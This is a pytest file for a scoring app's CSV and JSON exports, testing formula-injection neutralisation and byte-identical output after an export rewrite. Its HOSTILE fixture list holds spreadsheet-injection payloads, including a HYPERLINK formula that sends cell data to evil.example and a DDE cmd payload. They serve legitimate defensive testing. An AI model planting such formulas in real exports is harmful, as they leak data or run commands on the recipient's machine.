"""Tests for the exports: the CSV results table never carries a live spreadsheet formula."""

from __future__ import annotations

import csv
import gc
import io
import json
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from storage.demo import seed_demo
from storage.export import neutralise_cell, render, to_csv
from storage.replica import Replica

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


@pytest.fixture
def hostile(tmp_path: Path) -> Replica:
    """A host whose team names, locations and criterion names all start like formulas."""
    replica = Replica.open(tmp_path / "host.db")
    replica.register_self()
    for k, name in enumerate(HOSTILE):
        replica.admin(
            "criterion.put",
            {
                "id": f"c{k}",
                "name": name,
                "weight": 1,
                "min": -10,
                "max": 10,
                "step": 1,
                "order": k,
            },
        )
        replica.admin("team.put", {"id": f"-{k}-1", "name": name, "location": name})
    replica.admin("judge.put", {"id": "j1", "name": "=Judge"})
    replica.admin("event.set", {"field": "phase", "value": "scoring"})
    judge = Replica.open(tmp_path / "judge.db")
    replica.admin(
        "device.put",
        {
            "device": judge.device_id,
            "pubkey": judge.key.public_b64,
            "role": "judge",
            "subject": "j1",
            "name": "",
        },
    )
    body = {"team": "-0-1", "scores": {f"c{k}": -2 for k in range(len(HOSTILE))}, "final": True}
    assert replica.submit([judge.make("sheet.save", body, "j1").to_wire()])[0].accepted
    judge.close()
    return replica


@pytest.mark.parametrize("text", [*HOSTILE, "\tx", "\rx", "=", "-"])
def test_a_cell_that_starts_like_a_formula_is_quoted(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Aurora", "", "Team =1", "'quoted", "3 - 2"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert neutralise_cell(text) == text


def test_no_cell_of_the_csv_starts_a_formula(hostile: Replica) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(hostile))))
    assert len(rows) == 1 + len(HOSTILE)
    # Numbers the export writes itself stay numbers: a negative mean is not a formula.
    scored = next(row for row in rows if row[1] == "'-0-1")
    assert scored[6:] == ["-2.00"] * len(HOSTILE)
    cells = [cell for row in rows for cell in row if cell != "-2.00"]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    header = rows[0]
    for name in HOSTILE:
        assert f"'{name} (mean)" in header  # the text survives, shown as typed
    names = {row[2] for row in rows[1:]}
    assert names == {"'" + name for name in HOSTILE}
    assert {row[1] for row in rows[1:]} == {f"'-{k}-1" for k in range(len(HOSTILE))}
    hostile.close()


# --- linear exports (issue 14): the output stays byte-identical to the quadratic original ------


def reference_csv(replica: Replica) -> str:
    """Return the results table as the original export built it: every sheet scanned per row."""
    state = replica.state
    criteria = state.criteria()
    sheets = state.sheets()
    judges = state.judges()
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(
        ["rank", "team_id", "team", "location", "total_score", "judge_count"]
        + [neutralise_cell(f"{c['name']} (mean)") for c in criteria]
    )
    for row in replica.board.rows():
        team = state.team(row.team_id) or {}
        final = [
            s for s in sheets if s["team"] == row.team_id and s["final"] and s["judge"] in judges
        ]
        means = []
        for criterion in criteria:
            marks = [
                float(s["scores"][criterion["id"]]) for s in final if criterion["id"] in s["scores"]
            ]
            means.append(f"{sum(marks) / len(marks):.2f}" if marks else "")
        writer.writerow(
            [
                "" if row.rank is None else row.rank,
                neutralise_cell(row.team_id),
                neutralise_cell(row.team_name),
                neutralise_cell(team.get("location", "")),
                "" if row.total_score is None else f"{row.total_score:.2f}",
                row.judge_count,
                *means,
            ]
        )
    return buffer.getvalue()


def reference_json(replica: Replica) -> str:
    """Return the JSON export as the original built it (an independent copy of its snapshot)."""
    state = replica.state
    keys = ("id", "name", "description", "weight", "min", "max", "step", "order")
    snap = {
        "event": {"id": replica.event_id, **state.event()},
        "criteria": [{k: c[k] for k in keys} for c in state.criteria()],
        "teams": sorted(state.teams().values(), key=lambda t: t["id"]),
        "judges": [
            {"id": j["id"], "name": j["name"], "conflicts": j["conflicts"]}
            for j in sorted(state.judges().values(), key=lambda j: j["id"])
        ],
        "assignments": [
            {"judge": v["judge"], "team": v["team"]}
            for _, v in state.live("assign/")
            if v["assigned"]
        ],
        "sheets": [
            {k: s[k] for k in ("judge", "team", "scores", "comment", "final")}
            for s in state.sheets()
        ],
        "leaderboard": [row.to_wire() for row in replica.board.rows()],
    }
    return json.dumps(snap, indent=2, ensure_ascii=False, sort_keys=True) + "\n"


def judge_laptop(host: Replica, folder: Path, judge: str) -> Replica:
    """Pair a new laptop for `judge` with the host and return it."""
    laptop = Replica.open(folder / f"{judge}.db", durable=False)
    host.admin(
        "device.put",
        {
            "device": laptop.device_id,
            "pubkey": laptop.key.public_b64,
            "role": "judge",
            "subject": judge,
            "name": "",
        },
    )
    return laptop


def assert_exports_unchanged(replica: Replica) -> None:
    """Check that both exports equal the original's, byte for byte."""
    assert to_csv(replica).encode("utf-8") == reference_csv(replica).encode("utf-8")
    assert render(replica, "json").encode("utf-8") == reference_json(replica).encode("utf-8")


def test_the_demo_events_exports_are_byte_identical_to_the_originals(tmp_path: Path) -> None:
    host = Replica.open(tmp_path / "host.db", durable=False)
    seed_demo(host)
    criteria = host.state.criteria()
    teams = sorted(host.state.teams())
    for j, judge in enumerate(sorted(host.state.judges())):
        laptop = judge_laptop(host, tmp_path, judge)
        conflicts = host.state.judges()[judge]["conflicts"]
        for t, team in enumerate(t for t in teams if t not in conflicts):
            span = {c["id"]: c["max"] - c["min"] + 1 for c in criteria}
            scores = {c["id"]: c["min"] + (j * 7 + t * 3) % span[c["id"]] for c in criteria}
            body = {"team": team, "scores": scores, "comment": f"=note {t}", "final": t % 3 > 0}
            assert host.submit([laptop.make("sheet.save", body, judge).to_wire()])[0].accepted
        laptop.close()
    assert len(host.state.sheets()) > len(teams)
    assert_main_board_unchanged(host)
    host.close()


def assert_main_board_unchanged(replica: Replica) -> None:
    """Check that an event with prizes and rounds exports today's part exactly as the original.

    The demo has prizes and a finals round (issue 11), so its exports hold every board: the
    first round's main board, today's leaderboard, must be the original's row for row and the
    original's sections must hold what they held.
    """
    reference = reference_csv(replica).splitlines()
    header, *rows = to_csv(replica).splitlines()
    width = len(reference[0].split(","))
    columns = header.split(",")
    main = [
        r
        for r in csv.DictReader(io.StringIO("\n".join([header, *rows])))
        if r["round"] == "main" and r["prize"] == ""
    ]
    event_columns = reference[0].split(",")
    assert columns[:6] == event_columns[:6]
    assert [",".join(r[c] for c in event_columns) for r in main] == reference[1:]
    assert width == len(event_columns)
    mine, original = json.loads(render(replica, "json")), json.loads(reference_json(replica))
    assert [c for c in mine["criteria"] if "prize" not in c and "round" not in c] == original[
        "criteria"
    ]
    assert [{k: j[k] for k in ("id", "name", "conflicts")} for j in mine["judges"]] == original[
        "judges"
    ]
    for key in ("event", "teams", "assignments", "sheets", "leaderboard"):
        assert mine[key] == original[key]
    first = next(b for b in mine["boards"] if b["round"] == "main" and b["prize"] is None)
    keys = ("rank", "team_id", "team_name", "total_score", "judge_count")
    assert [{k: r[k] for k in keys} for r in first["rows"]] == original["leaderboard"]


EVENTS = st.fixed_dictionaries(
    {
        "teams": st.integers(0, 7),
        "judges": st.integers(1, 4),
        "criteria": st.lists(
            st.tuples(st.integers(-5, 5), st.integers(1, 10), st.integers(1, 3)),
            min_size=1,
            max_size=3,
        ),
        "sheets": st.lists(
            st.tuples(
                st.integers(0, 3),
                st.integers(0, 6),
                st.lists(st.integers(0, 10), min_size=3, max_size=3),
                st.booleans(),
                st.integers(0, 2),
            ),
            max_size=25,
        ),
        "gone_judge": st.booleans(),
        "gone_team": st.booleans(),
    }
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(event=EVENTS)
def test_a_random_events_exports_are_byte_identical_to_the_originals(
    event: dict[str, Any],
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        host = Replica.open(Path(folder) / "host.db", durable=False)
        host.register_self()
        for k, (low, span, weight) in enumerate(event["criteria"]):
            criterion = {"id": f"c{k}", "name": f"C{k}", "weight": weight, "min": low}
            host.admin("criterion.put", {**criterion, "max": low + span, "step": 1, "order": 0})
        for t in range(event["teams"]):
            host.admin("team.put", {"id": f"t{t}", "name": f"Team {t % 3}", "location": "-"})
        for j in range(event["judges"]):
            host.admin("judge.put", {"id": f"j{j}", "name": f"J{j}"})
        host.admin("event.set", {"field": "phase", "value": "scoring"})
        laptops = [judge_laptop(host, Path(folder), f"j{j}") for j in range(event["judges"])]
        for j, t, marks, final, skipped in event["sheets"]:
            if j >= event["judges"] or t >= event["teams"]:
                continue
            criteria = event["criteria"][skipped:] or event["criteria"]
            scores = {
                f"c{event['criteria'].index(c)}": c[0] + marks[k % 3] % (c[1] + 1)
                for k, c in enumerate(criteria)
            }
            body = {"team": f"t{t}", "scores": scores, "comment": "", "final": final}
            host.submit([laptops[j].make("sheet.save", body, f"j{j}").to_wire()])
        if event["gone_judge"]:
            host.admin("judge.del", {"id": "j0"})  # its sheets stay, but count no longer
        if event["gone_team"] and event["teams"]:
            host.admin("team.del", {"id": "t0"})
        assert_exports_unchanged(host)
        for laptop in laptops:
            laptop.close()
        host.close()


def test_the_json_export_runs_no_garbage_collection_and_leaves_the_collector_as_it_was(
    tmp_path: Path,
) -> None:
    # Issue 14: the indented encoder's allocations set off collections that traverse the
    # replica's whole state, a cost that grows faster than the event.
    replica = Replica.open(tmp_path / "host.db", durable=False)
    try:
        seed_demo(replica)
        for t in range(600):  # its snapshot makes a few thousand dicts: collections before
            replica.admin("team.put", {"id": f"x{t}", "name": f"Team {t}", "members": ["a", "b"]})
            replica.admin("assign.put", {"judge": "judge-ada", "team": f"x{t}", "assigned": True})
        collections: list[int] = []

        def count(phase: str, info: dict[str, int]) -> None:
            if phase == "start":
                collections.append(info["generation"])

        gc.collect()
        gc.callbacks.append(count)
        try:
            text = render(replica, "json")
        finally:
            gc.callbacks.remove(count)
        # At most the one young collection that resumes once the collector is back on.
        assert collections in ([], [0]), collections
        assert gc.isenabled()
        assert len(json.loads(text)["teams"]) == 608
        gc.disable()
        try:
            render(replica, "json")
            assert not gc.isenabled()  # a caller's own pause is kept
        finally:
            gc.enable()
    finally:
        replica.close()
